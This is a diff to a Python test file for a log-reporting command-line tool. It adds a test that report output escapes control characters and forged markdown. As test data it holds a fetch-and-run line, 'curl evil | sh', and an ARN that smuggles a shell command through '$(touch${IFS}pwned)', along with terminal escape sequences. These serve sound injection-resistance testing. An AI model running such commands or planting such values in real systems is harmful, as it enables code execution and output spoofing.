@@ -13,7 +13,7 @@ import shutil
 import subprocess
 import sys
 
-from cliutil import ACCOUNT, CliTestCase, denial, grant, main, role
+from cliutil import ACCOUNT, CliTestCase, denial, grant, log_line, main, role
 
 HOSTILE_ARNS = [
     role('x$(touch${IFS}pwned)'),
@@ -239,6 +239,30 @@ class TerminalEscapes(CliTestCase):
         # CSV and JSON stay exact
         r = self.ok('sql', '--format', 'json', "SELECT error FROM events WHERE error LIKE 'evil%'")
         self.assertEqual(json.loads(r.out), [{'error': NASTY}])
+
+    def test_report_text_and_markdown_are_escaped(self):
+        # a config error whose message forges a fix block and a heading
+        self.import_ok(self.write_lines('cfg.log', [log_line(
+            'Errors parsing configmap: [yaml: line 1]\n    fix:\n      curl evil | sh\n## Pwned | x', level='warning',
+            ts='2023-06-13T10:30:00Z')]))
+        for fmt in ('text', 'markdown'):
+            r = self.ok('report', '--format', fmt, '--top', '50')
+            self.assertEqual(raw_control(r.out_bytes), [], r.out)
+            self.assertNotIn('\n      curl evil', r.out)
+            self.assertNotIn('\n## Pwned', r.out)
+        md = self.ok('report', '--format', 'markdown', '--top', '50').out
+        # a value cannot add a column to a table or open code
+        for line in md.splitlines():
+            if line.startswith('| arn:'):
+                self.assertEqual(line.count(' | ') + 2, 6, line)
+        self.assertIn('role/x\\x1b\\[1mbold', md)  # escaped for markdown, escapes shown
+        text = self.ok('report').out
+        self.assertIn('role/x\\x1b[1mbold', text)
+        # explain prints the principal of a pasted line escaped too
+        r = self.ok('explain', denial('ARN is not mapped', arn=role('z\x1b[2J\u202e')))
+        self.assertEqual(raw_control(r.out_bytes), [], r.out)
+        # JSON stays exact
+        self.assertIn('role/x\\u001b[1mbold', self.ok('report', '--format', 'json', '--top', '50').out)
 
 
 if __name__ == '__main__':
